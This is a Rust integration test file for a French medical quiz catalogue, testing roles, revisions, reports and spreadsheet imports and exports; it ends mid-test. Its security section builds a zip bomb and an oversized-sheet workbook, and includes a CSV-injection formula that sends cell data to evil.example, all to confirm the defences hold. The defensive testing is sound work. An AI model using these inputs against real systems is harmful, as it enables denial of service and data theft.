//! Catalogue use cases against a real database (SQLite by default, PostgreSQL with
//! `MYQCM_TEST_DATABASE_URL`): role rules, revisions, demo bank, imports.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "tests fail loudly on purpose"
)]

use myqcm_domain::catalogue::lifecycle::Actor;
use myqcm_domain::catalogue::{ItemStatus, Transition};
use myqcm_domain::permissions::Role;
use myqcm_services::catalogue::{self, CatalogueError, EditInput, NewItemInput, reports};
use myqcm_services::import::{self, Format, ImportOptions};
use myqcm_testkit::{epoch, test_cache, test_db};
use uuid::Uuid;

fn actor(roles: &[Role]) -> Actor {
    Actor {
        id: Uuid::now_v7(),
        roles: roles.to_vec(),
        scopes: vec![],
        mfa_enrolled: true,
    }
}

fn content_admin() -> Actor {
    Actor {
        roles: vec![Role::Admin],
        scopes: vec![myqcm_domain::permissions::AdminScope::Content],
        ..actor(&[])
    }
}

fn draft_input() -> NewItemInput {
    serde_json::from_value(serde_json::json!({
        "course": "cardio-hta",
        "kcs": [{"kc": "kc-cardio-hta-def", "weight": 1.0}],
        "content": {
            "kind": "qcs", "locale": "fr", "difficulty": "easy", "estimated_seconds": 40,
            "stem": "Quel examen confirme une HTA suspectée en consultation ?",
            "options": [
                {"text": "MAPA des 24 h", "correct": true, "explanation": "Référence hors cabinet."},
                {"text": "Échographie rénale", "correct": false, "explanation": "Bilan, pas diagnostic."}
            ],
            "explanation": "La mesure hors cabinet confirme le diagnostic."
        }
    }))
    .unwrap()
}

#[tokio::test]
async fn the_demo_bank_loads_and_reloading_changes_nothing() {
    let db = test_db().await.unwrap();
    let r = import::load_demo_bank(&db, Uuid::now_v7(), epoch())
        .await
        .unwrap();
    assert!(r.committed, "{:?}", r.errors);
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    assert_eq!(r.created, 162 + 12);
    let again = import::load_demo_bank(&db, Uuid::now_v7(), epoch())
        .await
        .unwrap();
    assert_eq!((again.created, again.updated, again.unchanged), (0, 0, 174));
    let bp = catalogue::curriculum::blueprint(&db, 3, None)
        .await
        .unwrap();
    assert_eq!(bp.version, 1);
    assert_eq!(bp.weights.subjects.len(), 3);
    let tree = catalogue::curriculum::kc_tree(&db, "cardio").await.unwrap();
    assert!(tree.iter().filter(|n| n.level == "kc").count() >= 12);
}

#[tokio::test]
async fn role_rules_hold_for_authors_reviewers_and_learners() {
    let db = test_db().await.unwrap();
    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
        .await
        .unwrap();
    let author = actor(&[Role::Author]);
    let other = actor(&[Role::Author]);
    let reviewer = actor(&[Role::Reviewer]);
    let author_reviewer = actor(&[Role::Author, Role::Reviewer]);
    let student = actor(&[Role::Student]);
    let item = catalogue::create_item(&db, &author, draft_input(), epoch())
        .await
        .unwrap();
    // Another author neither sees nor edits the draft.
    assert!(matches!(
        catalogue::get_staff(&db, &other, item.id).await,
        Err(CatalogueError::NotFound)
    ));
    let edit = EditInput {
        content: item.revision.content.clone(),
        kcs: None,
    };
    assert!(matches!(
        catalogue::edit_item(&db, &other, item.id, edit.clone(), epoch()).await,
        Err(CatalogueError::NotFound)
    ));
    // Learners never see it before approval.
    assert!(matches!(
        catalogue::get_learner(&db, &student, item.id).await,
        Err(CatalogueError::NotFound)
    ));
    catalogue::transition(&db, &author, item.id, Transition::Submit, None, epoch())
        .await
        .unwrap();
    assert!(matches!(
        catalogue::get_learner(&db, &student, item.id).await,
        Err(CatalogueError::NotFound)
    ));
    // A reviewer never reviews their own item.
    let own = catalogue::create_item(&db, &author_reviewer, draft_input(), epoch())
        .await
        .unwrap();
    catalogue::transition(
        &db,
        &author_reviewer,
        own.id,
        Transition::Submit,
        None,
        epoch(),
    )
    .await
    .unwrap();
    assert!(matches!(
        catalogue::transition(
            &db,
            &author_reviewer,
            own.id,
            Transition::Approve,
            None,
            epoch()
        )
        .await,
        Err(CatalogueError::OwnItem)
    ));
    // Rejection needs a reason and sends the item back to draft.
    assert!(matches!(
        catalogue::transition(
            &db,
            &reviewer,
            item.id,
            Transition::Reject,
            Some(" "),
            epoch()
        )
        .await,
        Err(CatalogueError::Invalid(_))
    ));
    let back = catalogue::transition(
        &db,
        &reviewer,
        item.id,
        Transition::Reject,
        Some("Précisez le seuil."),
        epoch(),
    )
    .await
    .unwrap();
    assert_eq!(back.status, "draft");
    catalogue::transition(&db, &author, item.id, Transition::Submit, None, epoch())
        .await
        .unwrap();
    let ok = catalogue::transition(&db, &reviewer, item.id, Transition::Approve, None, epoch())
        .await
        .unwrap();
    assert_eq!(ok.status, ItemStatus::Approved.as_str());
    let seen = catalogue::get_learner(&db, &student, item.id)
        .await
        .unwrap();
    assert_eq!(seen.options.len(), 2);
    // The author may no longer edit it in place.
    assert!(matches!(
        catalogue::edit_item(&db, &author, item.id, edit, epoch()).await,
        Err(CatalogueError::Forbidden)
    ));
    let history = catalogue::history(&db, &reviewer, item.id).await.unwrap();
    assert!(
        history
            .iter()
            .any(|e| e.kind == "reject" && e.body == "Précisez le seuil.")
    );
}

#[tokio::test]
async fn editing_an_approved_item_keeps_the_old_revision_unchanged() {
    let db = test_db().await.unwrap();
    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
        .await
        .unwrap();
    let author = actor(&[Role::Author]);
    let reviewer = actor(&[Role::Reviewer]);
    let second_reviewer = actor(&[Role::Reviewer]);
    let item = catalogue::create_item(&db, &author, draft_input(), epoch())
        .await
        .unwrap();
    catalogue::transition(&db, &author, item.id, Transition::Submit, None, epoch())
        .await
        .unwrap();
    let approved =
        catalogue::transition(&db, &reviewer, item.id, Transition::Approve, None, epoch())
            .await
            .unwrap();
    let old = approved.revision.clone();
    let mut content = old.content.clone();
    content.stem = "Quel examen confirme le diagnostic d'HTA suspecté en consultation ?".into();
    let edited = catalogue::edit_item(
        &db,
        &reviewer,
        item.id,
        EditInput { content, kcs: None },
        epoch(),
    )
    .await
    .unwrap();
    assert_eq!(edited.status, "in_review");
    assert_eq!(edited.revision.number, 2);
    let reread = catalogue::revision(&db, &reviewer, item.id, old.id)
        .await
        .unwrap();
    assert_eq!(reread.content, old.content);
    assert_eq!(reread.number, 1);
    // The editor cannot approve their own revision; another reviewer can.
    assert!(matches!(
        catalogue::transition(&db, &reviewer, item.id, Transition::Approve, None, epoch()).await,
        Err(CatalogueError::OwnItem)
    ));
    catalogue::transition(
        &db,
        &second_reviewer,
        item.id,
        Transition::Approve,
        None,
        epoch(),
    )
    .await
    .unwrap();
    assert_eq!(
        catalogue::revisions(&db, &reviewer, item.id)
            .await
            .unwrap()
            .len(),
        2
    );
}

#[tokio::test]
async fn reports_go_through_triage_and_the_reporter_reads_the_outcome() {
    let db = test_db().await.unwrap();
    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
        .await
        .unwrap();
    let student = actor(&[Role::Student]);
    let reviewer = actor(&[Role::Reviewer]);
    let page = catalogue::search_learner(
        &db,
        &student,
        myqcm_db::catalogue::SearchFilter {
            limit: 5,
            ..Default::default()
        },
    )
    .await
    .unwrap();
    let item = page.items[0].id;
    let cache = test_cache().await.unwrap();
    let cache = cache.as_ref();
    let r = reports::create(
        &db,
        cache,
        &student,
        item,
        "typo",
        "Faute dans l'option B",
        epoch(),
    )
    .await
    .unwrap();
    assert!(matches!(
        reports::create(&db, cache, &reviewer, item, "typo", "x", epoch()).await,
        Err(CatalogueError::Forbidden)
    ));
    assert!(matches!(
        reports::triage(&db, &student, r.id, "accepted", None, epoch()).await,
        Err(CatalogueError::Forbidden)
    ));
    let q = reports::queue(&db, &reviewer, None, None, 20)
        .await
        .unwrap();
    assert_eq!(q.len(), 1);
    assert!(matches!(
        reports::triage(&db, &reviewer, r.id, "rejected", None, epoch()).await,
        Err(CatalogueError::Invalid(_))
    ));
    reports::triage(&db, &reviewer, r.id, "accepted", None, epoch())
        .await
        .unwrap();
    reports::triage(
        &db,
        &reviewer,
        r.id,
        "fixed",
        Some("Corrigé, merci."),
        epoch(),
    )
    .await
    .unwrap();
    let mine = reports::mine(&db, &student, None, 10).await.unwrap();
    assert_eq!(mine[0].status, "fixed");
    assert_eq!(mine[0].resolution.as_deref(), Some("Corrigé, merci."));
    assert!(matches!(
        reports::triage(&db, &reviewer, r.id, "open", None, epoch()).await,
        Err(CatalogueError::Invalid(_) | CatalogueError::WrongState(_))
    ));
}

const CSV_HEAD: &str = "external_id,type,course,stem,option1,option2,option3,correct,expected,difficulty,estimated_seconds,kcs\n";

fn csv_row(n: usize) -> String {
    format!(
        "csv-{n},,cardio-hta,Question d'import numéro {n} sur la pression artérielle ?,Option A {n},Option B {n},Option C {n},2,,medium,45,kc-cardio-hta-def\n"
    )
}

#[tokio::test]
async fn a_csv_with_one_bad_row_imports_nothing_unless_partial() {
    let db = test_db().await.unwrap();
    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
        .await
        .unwrap();
    let before = myqcm_db::catalogue::count_items(&*db).await.unwrap();
    let mut csv = String::from(CSV_HEAD);
    for n in 0..20 {
        csv.push_str(&csv_row(n));
    }
    csv.push_str("csv-bad,qcs,cardio-hta,Une question sans bonne réponse valable ?,A,B,,9,,medium,45,kc-cardio-hta-def\n");
    let opts = ImportOptions {
        partial: false,
        author_id: Uuid::now_v7(),
        status: ItemStatus::InReview,
        default_course: None,
    };
    let r = import::import(&db, csv.as_bytes(), Format::Csv, &opts, &|_, _| {}, epoch())
        .await
        .unwrap();
    assert!(!r.committed);
    assert_eq!(r.errors.len(), 1);
    assert_eq!(
        (r.errors[0].row, r.errors[0].column.as_str()),
        (22, "correct")
    );
    // A machine reason and the value it names, so that pages can say it in their language.
    assert_eq!(
        (r.errors[0].code.as_deref(), r.errors[0].value.as_deref()),
        (Some("no_such_option"), Some("9"))
    );
    assert_eq!(
        myqcm_db::catalogue::count_items(&*db).await.unwrap(),
        before
    );
    let partial = ImportOptions {
        partial: true,
        ..opts.clone()
    };
    let r = import::import(
        &db,
        csv.as_bytes(),
        Format::Csv,
        &partial,
        &|_, _| {},
        epoch(),
    )
    .await
    .unwrap();
    assert!(r.committed);
    assert_eq!((r.created, r.failed), (20, 1));
    // Idempotent: the same file again changes nothing.
    let r = import::import(
        &db,
        csv.as_bytes(),
        Format::Csv,
        &partial,
        &|_, _| {},
        epoch(),
    )
    .await
    .unwrap();
    assert_eq!((r.created, r.unchanged), (0, 20));
}

#[tokio::test]
async fn legacy_spreadsheet_columns_are_understood_and_rows_without_ids_match_by_hash() {
    let db = test_db().await.unwrap();
    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
        .await
        .unwrap();
    let csv = "Question Text;Question Type;Option1;Option2;Option3;Correct Options;Answer Text;Explanation;Difficulty;Tag;Promo;Time (sec);Knowledge Components\n\
Quel diurétique est recommandé en première intention dans l'HTA ?;;Thiazidique;Furosémide;Spironolactone;1;;Les thiazidiques.;facile;exam;2019;30;kc-cardio-hta-ttt\n\
Quels sont des signes d'HTA maligne ?;QCM;Rétinopathie stade 4;Insuffisance rénale aiguë;Bradycardie;1, 2;;;difficile;livre;2020;60;kc-cardio-hta-ttt\n\
Seuil de PAS diurne en MAPA (mmHg) ?;QROC ouverte;;;;;135;;moyen;serie;;40;kc-cardio-hta-mesure\n";
    let opts = ImportOptions {
        partial: false,
        author_id: Uuid::now_v7(),
        status: ItemStatus::InReview,
        default_course: Some("cardio-hta".into()),
    };
    let r = import::import(&db, csv.as_bytes(), Format::Csv, &opts, &|_, _| {}, epoch())
        .await
        .unwrap();
    assert!(r.committed, "{:?}", r.errors);
    assert_eq!(r.created, 3);
    let r = import::import(&db, csv.as_bytes(), Format::Csv, &opts, &|_, _| {}, epoch())
        .await
        .unwrap();
    assert_eq!(r.unchanged, 3, "{:?}", r);
}

#[tokio::test]
async fn an_export_reimports_as_unchanged_in_every_format() {
    let db = test_db().await.unwrap();
    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
        .await
        .unwrap();
    let bank = import::export::bank(&db).await.unwrap();
    assert_eq!(bank.items.len(), 162);
    assert_eq!(bank.clinical_cases.len(), 3);
    let opts = ImportOptions {
        partial: false,
        author_id: Uuid::now_v7(),
        status: ItemStatus::InReview,
        default_course: None,
    };
    for format in [Format::Json, Format::Csv, Format::Xlsx] {
        let bytes = import::export::write(&bank, format).unwrap();
        let r = import::import(&db, &bytes, format, &opts, &|_, _| {}, epoch())
            .await
            .unwrap();
        assert!(r.committed, "{format:?}: {:?}", r.errors.first());
        assert_eq!(r.created, 0, "{format:?}");
        assert_eq!(r.updated, 0, "{format:?}: {:?}", r);
    }
}

#[tokio::test]
async fn translations_are_linked_to_their_french_original() {
    let db = test_db().await.unwrap();
    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
        .await
        .unwrap();
    let student = actor(&[Role::Student]);
    let fr = myqcm_db::catalogue::item_by_external_id(&*db, "demo-cardio-0001")
        .await
        .unwrap()
        .unwrap();
    let view = catalogue::get_learner(&db, &student, fr.id).await.unwrap();
    let mut locales: Vec<_> = view
        .translations
        .iter()
        .map(|t| t.locale.as_str())
        .collect();
    locales.sort_unstable();
    assert_eq!(locales, ["ar", "en"]);
    let en = myqcm_db::catalogue::item_by_external_id(&*db, "demo-cardio-0001-en")
        .await
        .unwrap()
        .unwrap();
    assert_eq!(en.translation_group_id, fr.translation_group_id);
    let en_view = catalogue::get_learner(&db, &student, en.id).await.unwrap();
    assert!(
        en_view
            .translations
            .iter()
            .any(|t| t.id == fr.id && t.locale == "fr")
    );
}

#[tokio::test]
async fn the_taxonomy_exports_and_imports_on_its_own() {
    let source = test_db().await.unwrap();
    import::load_demo_bank(&source, Uuid::now_v7(), epoch())
        .await
        .unwrap();
    let mut bank = import::export::bank(&source).await.unwrap();
    bank.items.clear();
    bank.clinical_cases.clear();
    let bytes = import::export::write(&bank, Format::Json).unwrap();
    let target = test_db().await.unwrap();
    let opts = ImportOptions {
        partial: false,
        author_id: Uuid::now_v7(),
        status: ItemStatus::InReview,
        default_course: None,
    };
    let r = import::import(&target, &bytes, Format::Json, &opts, &|_, _| {}, epoch())
        .await
        .unwrap();
    assert!(r.committed && r.errors.is_empty(), "{r:?}");
    let tree = catalogue::curriculum::tree(&target, Some(3)).await.unwrap();
    assert_eq!(tree.subjects.len(), 3);
    assert_eq!(
        tree.subjects.iter().map(|s| s.courses.len()).sum::<usize>(),
        12
    );
    assert!(
        tree.subjects.iter().all(|s| s.unit_id.is_some()),
        "year 3 subjects sit in a unit"
    );
    let kcs = catalogue::curriculum::kc_tree(&target, "nephro")
        .await
        .unwrap();
    assert_eq!(
        kcs.iter().filter(|n| n.level == "kc").count(),
        catalogue::curriculum::kc_tree(&source, "nephro")
            .await
            .unwrap()
            .iter()
            .filter(|n| n.level == "kc")
            .count()
    );
    assert_eq!(
        catalogue::curriculum::blueprint(&target, 3, None)
            .await
            .unwrap()
            .version,
        1
    );
}

#[tokio::test]
async fn kc_trees_travel_as_sheets_in_our_columns_and_the_earlier_systems() {
    let source = test_db().await.unwrap();
    import::load_demo_bank(&source, Uuid::now_v7(), epoch())
        .await
        .unwrap();
    let bank = import::export::bank(&source).await.unwrap();
    let target = test_db().await.unwrap();
    let curriculum_only = import::bank::Bank {
        year_of_study: Some(3),
        units: bank.units.clone(),
        subjects: bank.subjects.clone(),
        ..Default::default()
    };
    assert!(
        import::apply_taxonomy(&target, &content_admin(), &curriculum_only, epoch())
            .await
            .unwrap()
            .committed
    );
    let opts = ImportOptions {
        partial: false,
        author_id: Uuid::now_v7(),
        status: ItemStatus::InReview,
        default_course: None,
    };
    for format in [Format::Csv, Format::Xlsx] {
        let sheet = import::export::write_taxonomy(&bank, format).unwrap();
        let r = import::import(&target, &sheet, format, &opts, &|_, _| {}, epoch())
            .await
            .unwrap();
        assert!(r.committed, "{format:?}: {r:?}");
    }
    for subject in ["cardio", "pneumo", "nephro"] {
        let a = catalogue::curriculum::kc_tree(&source, subject)
            .await
            .unwrap();
        let b = catalogue::curriculum::kc_tree(&target, subject)
            .await
            .unwrap();
        let codes = |v: &[catalogue::curriculum::KcNodeView]| {
            let mut c: Vec<_> = v
                .iter()
                .map(|n| (n.code.clone(), n.level.clone()))
                .collect();
            c.sort();
            c
        };
        assert_eq!(codes(&a), codes(&b), "{subject}");
    }
    let legacy = "domain_slug,domain_name,kc_slug,kc_name,parent_slug,subject\n\
kc-domain-ecg,ECG,kc-ecg-axe,Axe du QRS,,cardio\n\
kc-domain-ecg,ECG,kc-ecg-bav,Blocs AV,,cardio\n";
    let r = import::import(
        &target,
        legacy.as_bytes(),
        Format::Csv,
        &opts,
        &|_, _| {},
        epoch(),
    )
    .await
    .unwrap();
    assert!(r.committed, "{r:?}");
    let tree = catalogue::curriculum::kc_tree(&target, "cardio")
        .await
        .unwrap();
    assert!(
        tree.iter()
            .any(|n| n.code == "kc-ecg-bav" && n.level == "kc")
    );
    assert!(
        tree.iter()
            .any(|n| n.code == "kc-domain-ecg-general" && n.level == "topic")
    );
}

// ------------------------------------------------------------ spreadsheet bombs (issue 9.8)

/// Imports `bytes` as `format` in review, all-or-nothing, at the epoch.
async fn import_with_defaults(
    db: &myqcm_db::DatabaseConnection,
    bytes: &[u8],
    format: Format,
) -> import::ImportReport {
    import::import(db, bytes, format, &import_opts(), &|_, _| {}, epoch())
        .await
        .unwrap()
}

fn import_opts() -> ImportOptions {
    ImportOptions {
        partial: false,
        author_id: Uuid::now_v7(),
        status: ItemStatus::InReview,
        default_course: None,
    }
}

/// A raw deflate stream (fixed Huffman codes) that inflates to `n` spaces: one literal, then
/// back-references of 258 bytes at distance 1, 13 bits each.
fn deflate_spaces(n: u64) -> Vec<u8> {
    struct Bits {
        out: Vec<u8>,
        acc: u64,
        len: u32,
    }
    impl Bits {
        fn put(&mut self, value: u64, bits: u32) {
            self.acc |= value << self.len;
            self.len += bits;
            while self.len >= 8 {
                self.out.push((self.acc & 0xff) as u8);
                self.acc >>= 8;
                self.len -= 8;
            }
        }
        /// Huffman codes are packed most significant bit first.
        fn code(&mut self, code: u64, bits: u32) {
            let reversed = (0..bits).fold(0, |r, i| r | (((code >> i) & 1) << (bits - 1 - i)));
            self.put(reversed, bits);
        }
    }
    let mut b = Bits {
        out: Vec::new(),
        acc: 0,
        len: 0,
    };
    b.put(1, 1); // last block
    b.put(1, 2); // fixed Huffman codes
    b.code(0x30 + u64::from(b' '), 8);
    let mut left = n - 1;
    while left >= 258 {
        b.code(0b1100_0101, 8); // length 258
        b.code(0, 5); // distance 1
        left -= 258;
    }
    for _ in 0..left {
        b.code(0x30 + u64::from(b' '), 8);
    }
    b.code(0, 7); // end of block
    if b.len > 0 {
        b.out.push((b.acc & 0xff) as u8);
    }
    b.out
}

/// A one-part zip archive holding `data` (deflated) under `name`, declaring `declared` bytes
/// once unzipped.
fn zip_with(name: &str, data: &[u8], declared: u32) -> Vec<u8> {
    let n = u16::try_from(name.len()).unwrap();
    let size = u32::try_from(data.len()).unwrap();
    let mut z = Vec::new();
    let header = |z: &mut Vec<u8>, central: bool| {
        if central {
            z.extend(0x0201_4b50u32.to_le_bytes());
            z.extend(20u16.to_le_bytes()); // made by
        } else {
            z.extend(0x0403_4b50u32.to_le_bytes());
        }
        for v in [20u16, 0, 8, 0, 0x21] {
            z.extend(v.to_le_bytes()); // needed, flags, deflate, time, date
        }
        for v in [0u32, size, declared] {
            z.extend(v.to_le_bytes()); // crc (never reached), sizes
        }
        z.extend(n.to_le_bytes());
        z.extend(0u16.to_le_bytes()); // extra
        if central {
            for v in [0u16, 0, 0] {
                z.extend(v.to_le_bytes()); // comment, disk, internal attributes
            }
            z.extend(0u32.to_le_bytes()); // external attributes
            z.extend(0u32.to_le_bytes()); // offset of the local header
        }
        z.extend(name.as_bytes());
    };
    header(&mut z, false);
    z.extend(data);
    let cd_start = u32::try_from(z.len()).unwrap();
    header(&mut z, true);
    let cd_size = u32::try_from(z.len()).unwrap() - cd_start;
    z.extend(0x0605_4b50u32.to_le_bytes());
    for v in [0u16, 0, 1, 1] {
        z.extend(v.to_le_bytes());
    }
    z.extend(cd_size.to_le_bytes());
    z.extend(cd_start.to_le_bytes());
    z.extend(0u16.to_le_bytes());
    z
}

/// The attack (issue 9, finding 8): an .xlsx with one cell at A1 and one at XFD1048576 made the
/// reader allocate the 17-billion-cell rectangle between them and aborted `myqcm serve`, whose
/// worker then retried the job. The import now streams the cells and fails, with a message
/// naming the stray cell, without allocating anything for the empty space.
#[tokio::test]
async fn a_workbook_with_a_cell_at_xfd1048576_fails_the_import_with_a_clear_message() {
    let db = test_db().await.unwrap();
    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
        .await
        .unwrap();
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet();
    for (c, h) in [
        "external_id",
        "course",
        "stem",
        "option1",
        "option2",
        "correct",
        "kcs",
    ]
    .iter()
    .enumerate()
    {
        ws.write_string(0, u16::try_from(c).unwrap(), *h).unwrap();
    }
    for (c, v) in [
        "far-1",
        "cardio-hta",
        "Quel examen confirme une HTA suspectée ?",
        "MAPA",
        "ECG",
        "1",
        "kc-cardio-hta-def",
    ]
    .iter()
    .enumerate()
    {
        ws.write_string(1, u16::try_from(c).unwrap(), *v).unwrap();
    }
    ws.write_string(1_048_575, 16_383, "far away").unwrap();
    let bytes = wb.save_to_buffer().unwrap();
    let before = myqcm_db::catalogue::count_items(&*db).await.unwrap();
    let r = import_with_defaults(&db, &bytes, Format::Xlsx).await;
    assert!(!r.committed);
    assert_eq!(r.errors.len(), 1, "{r:?}");
    assert!(
        r.errors[0].reason.contains("cell XFD1048576 lies outside"),
        "{:?}",
        r.errors[0]
    );
    assert_eq!(
        myqcm_db::catalogue::count_items(&*db).await.unwrap(),
        before
    );
    // Without the stray cell the same sheet imports.
    let mut wb = rust_xlsxwriter::Workbook::new();
    let ws = wb.add_worksheet();
    ws.write_string(0, 0, "stem").unwrap();
    ws.write_string(0, 1, "course").unwrap();
    ws.write_string(0, 2, "expected").unwrap();
    ws.write_string(0, 3, "kcs").unwrap();
    ws.write_string(3, 0, "Seuil de PAS diurne en MAPA (mmHg) ?")
        .unwrap();
    ws.write_string(3, 1, "cardio-hta").unwrap();
    ws.write_string(3, 2, "135").unwrap();
    ws.write_string(3, 3, "kc-cardio-hta-mesure").unwrap();
    let r = import_with_defaults(&db, &wb.save_to_buffer().unwrap(), Format::Xlsx).await;
    assert!(r.committed && r.created == 1, "{r:?}");
}

/// A zip bomb: a 1.6 MB upload that unzips to 256 MiB of worksheet. It is refused from the
/// sizes the archive declares, before anything is unzipped; an archive that understates them
/// is refused while unzipping, as soon as the count passes the limit.
#[tokio::test]
async fn a_zip_bomb_is_refused_before_it_is_unzipped() {
    let db = test_db().await.unwrap();
    let huge: u32 = 256 * 1024 * 1024;
    let bomb = zip_with(
        "xl/worksheets/sheet1.xml",
        &deflate_spaces(u64::from(huge)),
        huge,
    );
    assert!(bomb.len() < 2 * 1024 * 1024, "{}", bomb.len());
    let r = import_with_defaults(&db, &bomb, Format::Xlsx).await;
    assert!(!r.committed);
    assert!(
        r.errors[0].reason.contains("unzips to more than 64 MiB"),
        "{:?}",
        r.errors
    );
    // The same stream declared as 1 KiB, read under a 1 MiB limit.
    let liar = zip_with(
        "xl/worksheets/sheet1.xml",
        &deflate_spaces(8 * 1024 * 1024),
        1024,
    );
    let limits = import::tabular::SheetLimits {
        max_unzipped_bytes: 1024 * 1024,
        ..import::tabular::LIMITS
    };
    let Err(e) = import::tabular::parse_xlsx_within(&liar, None, &limits) else {
        panic!("an understated archive was read");
    };
    assert!(
        e.reason.contains("unzips to more than 1 MiB")
            || e.reason.contains("larger than its declared"),
        "{e:?}"
    );
}

/// Rows and columns are bounded in CSV files too, while reading.
#[test]
fn csv_rows_and_columns_are_bounded() {
    let limits = import::tabular::SheetLimits {
        max_rows: 3,
        max_columns: 4,
        ..import::tabular::LIMITS
    };
    let ok = "stem,course\na,b\nc,d\n";
    assert!(import::tabular::parse_csv_within(ok.as_bytes(), None, &limits).is_ok());
    let long = "stem,course\na,b\nc,d\ne,f\n";
    let Err(e) = import::tabular::parse_csv_within(long.as_bytes(), None, &limits) else {
        panic!("too many rows accepted");
    };
    assert!(e.reason.contains("more than 3 rows"), "{e:?}");
    let wide = "stem,course\na,b,c,d,e\n";
    let Err(e) = import::tabular::parse_csv_within(wide.as_bytes(), None, &limits) else {
        panic!("too many columns accepted");
    };
    assert!(e.reason.contains("more than 4 columns"), "{e:?}");
}

// ------------------------------------------------------------ exports and authoring (issue 9.10)

/// CSV injection: item text that starts like a formula (`=`, `+`, `-`, `@`, tab, CR) would run
/// as one when a reviewer opens an export in a spreadsheet program. Exports quote such cells
/// with a leading `'`, and the import removes it again, so the export still re-imports as
/// unchanged, in CSV and in .xlsx.
#[tokio::test]
async fn formula_cells_are_neutralised_in_exports_and_restored_on_import() {
    let db = test_db().await.unwrap();
    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
        .await
        .unwrap();
    let csv = format!(
        "{CSV_HEAD}f-1,qcs,cardio-hta,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"clic\"\")\",+33 6,-5,@SUM(1),1,,medium,45,kc-cardio-hta-def\n\
         f-2,qcs,cardio-hta,'déjà cité' : quelle valeur ?,'=1,\"\tA\",\"\rB\",3,,medium,45,kc-cardio-hta-def\n"
    );
    let r = import_with_defaults(&db, csv.as_bytes(), Format::Csv).await;
    assert!(r.committed, "{:?}", r.errors);
    assert_eq!(r.created, 2);
    let bank = import::export::bank(&db).await.unwrap();
    let item = bank
        .items
        .iter()
        .find(|i| i.external_id.as_deref() == Some("f-1"))
        .unwrap();
    assert!(item.stem.starts_with("=HYPERLINK("), "{}", item.stem);
    assert_eq!(item.options[1].text, "-5");
    let exported = import::export::write(&bank, Format::Csv).unwrap();
    let mut rdr = csv::Reader::from_reader(exported.as_slice());
    let mut seen = 0;
    for rec in rdr.records() {
        for cell in rec.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula cell: {cell:?}"
            );
            seen += usize::from(cell.starts_with("'="));
        }
    }
    assert!(seen >= 2, "the formula-like cells are quoted");
    for format in [Format::Csv, Format::Xlsx] {
        let bytes = import::export::write(&bank, format).unwrap();
        let r = import::import(&db, &bytes, format, &import_opts(), &|_, _| {}, epoch())
            .await
            .unwrap();
        assert!(r.committed, "{format:?}: {:?}", r.errors.first());
        assert_eq!((r.created, r.updated), (0, 0), "{format:?}: {r:?}");
    }
}

/// Unit rules of the quoting: a leading quote that is content survives the round trip too.
#[test]
fn cell_quoting_round_trips() {
    use import::tabular::{escape_cell, unescape_cell};
    for v in [
        "=1+1", "+33", "-5", "@x", "\tx", "\rx", "'=1", "'quoted'", "''", "plain", "", "é",
    ] {
        assert_eq!(unescape_cell(escape_cell(v.to_owned())), v, "{v:?}");
    }
    assert_eq!(escape_cell("=1".into()), "'=1");
    assert_eq!(escape_cell("plain".into()), "plain");
    // A quote written by a person before ordinary text stays.
    assert_eq!(unescape_cell("'hello".into()), "'hello");
}

/// The attack: an author creates a draft claiming `external_id` "bank-0042", the id of a row
/// an admin will import later; the import then matched the draft by that id and wrote the
/// bank's content (and status) onto the author's item. Only import/export staff set external
/// ids; the author's draft is refused that field and the import creates its own item.
#[tokio::test]
async fn an_author_cannot_pre_claim_an_external_id() {
    let db = test_db().await.unwrap();
    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
        .await
        .unwrap();
    let author = actor(&[Role::Author]);
    let mut input = draft_input();
    input.external_id = Some("bank-0042".into());
    match catalogue::create_item(&db, &author, input, epoch()).await {
        Err(CatalogueError::Invalid(errs)) => {
            assert_eq!(
                (errs[0].field.as_str(), errs[0].code),
                ("external_id", "not_allowed")
            );
        }
        other => panic!("an author set an external id: {other:?}"),
    }
    let draft = catalogue::create_item(&db, &author, draft_input(), epoch())
        .await
        .unwrap();
    assert!(draft.external_id.is_none());
    let csv = format!(
        "{CSV_HEAD}bank-0042,qcs,cardio-hta,Question de la banque officielle ?,A,B,C,1,,medium,45,kc-cardio-hta-def\n"
    );
    let r = import_with_defaults(&db, csv.as_bytes(), Format::Csv).await;
    assert_eq!((r.created, r.updated), (1, 0), "{r:?}");
    let imported = myqcm_db::catalogue::item_by_external_id(&*db, "bank-0042")
        .await
        .unwrap()
        .unwrap();
    assert_ne!(imported.id, draft.id);
    // Import staff may set one through the API.
    let staff = Actor {
        scopes: vec![
            myqcm_domain::permissions::AdminScope::Content,
            myqcm_domain::permissions::AdminScope::Super,
        ],
        ..content_admin()
    };
    let mut input = draft_input();
    input.external_id = Some("bank-0043".into());
    let made = catalogue::create_item(&db, &staff, input, epoch())
        .await
        .unwrap();
    assert_eq!(made.external_id.as_deref(), Some("bank-0043"));
}

/// The attack: `translation_of` pointing at another author's draft joined its translation group
/// (and so revealed it exists, and linked the two). The original must be readable by the
/// caller; otherwise the answer is the 404 of an unknown id.
#[tokio::test]
async fn translation_of_needs_an_original_the_caller_may_read() {
    let db = test_db().await.unwrap();
    import::load_demo_bank(&db, Uuid::now_v7(), epoch())
        .await
        .unwrap();
    let (alice, mallory) = (actor(&[Role::Author]), actor(&[Role::Author]));
    let secret = catalogue::create_item(&db, &alice, draft_input(), epoch())
        .await
        .unwrap();
    let mut english = draft_input();
    english.content.locale = "en".parse().unwrap();
    english.translation_of = Some(secret.id);
    assert!(matches!(
        catalogue::create_item(&db, &mallory, english.clone(), epoch()).await,
        Err(CatalogueError::NotFound)
    ));
    // Alice may translate her own draft; anyone may translate an approved item.
    let own = catalogue::create_item(&db, &alice, english.clone(), epoch())
        .await
        .unwrap();
    let approved = myqcm_db::catalogue::item_by_external_id(&*db, "demo-cardio-0002")
        .await
        .unwrap()
        .unwrap();
    english.translation_of = Some(approved.id);
